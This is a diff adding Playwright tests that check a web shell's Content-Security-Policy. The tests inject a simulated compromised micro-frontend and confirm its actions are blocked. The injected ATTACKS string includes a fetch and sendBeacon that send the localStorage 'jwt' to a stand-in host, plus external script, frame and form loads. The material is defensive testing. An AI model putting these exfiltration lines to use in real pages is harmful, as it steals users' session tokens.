@@ -1,0 +1,83 @@
+import { expect, test } from '@playwright/test';
+import { openAs, registerMembers } from '../fixtures/api-members';
+import { publishVariant, release } from '../fixtures/registry';
+
+const FOREIGN = 'https://foreign.example';
+
+/** What a remote that was taken over would try, each leaving a trace where it succeeds. */
+const ATTACKS = `
+  window.refused = [];
+  document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
+  const add = (name, properties) => document.head.append(Object.assign(document.createElement(name), properties));
+  try { eval('window.ranEval = true'); } catch {}
+  try { new Function('window.ranFunction = true')(); } catch {}
+  add('script', { textContent: 'window.ranInline = true' });
+  add('script', { src: '${FOREIGN}/evil.js' });
+  add('link', { rel: 'stylesheet', href: '${FOREIGN}/evil.css' });
+  add('img', { src: '${FOREIGN}/pixel.gif' });
+  add('base', { href: '${FOREIGN}/' });
+  fetch('${FOREIGN}/steal', { method: 'POST', body: localStorage.getItem('jwt') }).catch(() => undefined);
+  navigator.sendBeacon('${FOREIGN}/steal', 'token');
+  const frame = document.createElement('iframe');
+  frame.src = '${FOREIGN}/frame';
+  document.body.append(frame);
+  // Into a window of its own: a page that waits for an answer that never comes would hold up the test.
+  const form = Object.assign(document.createElement('form'), { action: '${FOREIGN}/form', method: 'post', target: '_blank' });
+  document.body.append(form);
+  form.submit();
+`;
+
+test('every document of the shell has a policy without unsafe-inline and unsafe-eval [MFE-03]', async ({
+  request,
+}) => {
+  const nonces = new Set<string>();
+  for (const path of ['/', '/home', '/friends', '/user/demo.sailor', '/no/such/place', '/index.html']) {
+    const response = await request.get(path, { headers: { Accept: 'text/html' } });
+    const policy = response.headers()['content-security-policy'] ?? '';
+    expect(policy, path).toContain("default-src 'none'");
+    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval|strict-dynamic|\*/);
+    nonces.add(/'nonce-([^']+)'/.exec(policy)?.[1] ?? '');
+  }
+  expect(nonces.size).toBe(6);
+});
+
+test('what a remote that was taken over tries is refused, and nothing leaves for a foreign origin [MFE-03]', async ({
+  browser,
+}) => {
+  const [member] = await registerMembers(1);
+  if (!member) throw new Error('There is no member');
+  const version = publishVariant('feed', (script, file) =>
+    file.includes('HomeFeed') ? `${ATTACKS};${script}` : script,
+  );
+  const page = await openAs(browser, member);
+  const left: string[] = [];
+  await page.route(`${FOREIGN}/**`, (route) => {
+    left.push(route.request().url());
+    return route.abort();
+  });
+  await page.goto(release('preview', 'mfe-feed', version));
+  await expect(page).toHaveURL(/\/home$/);
+  await expect(page.getByRole('button', { name: "What's on your mind?" })).toBeVisible();
+
+  const seen = () => page.evaluate(() => Reflect.get(window, 'refused'));
+  await expect
+    .poll(seen)
+    .toEqual(
+      expect.arrayContaining([
+        'script-src',
+        'script-src-elem',
+        'style-src-elem',
+        'img-src',
+        'base-uri',
+        'connect-src',
+        'frame-src',
+        'form-action',
+      ]),
+    );
+  const ran = await page.evaluate(() =>
+    ['ranEval', 'ranFunction', 'ranInline'].filter((name) => name in window),
+  );
+  expect(ran).toEqual([]);
+  expect(left).toEqual([]);
+  await page.context().close();
+});
